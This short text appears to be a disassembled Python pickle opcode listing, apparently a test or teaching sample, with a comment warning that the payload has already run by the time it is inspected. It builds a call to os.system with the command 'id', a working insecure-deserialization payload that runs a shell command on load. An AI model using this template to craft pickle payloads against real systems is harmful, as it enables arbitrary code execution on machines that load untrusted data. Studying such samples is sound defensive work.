# dangerous: the payload has run by then
PROTO 2
GLOBAL os system
BINUNICODE "id"
TUPLE1
REDUCE
POP
STOP
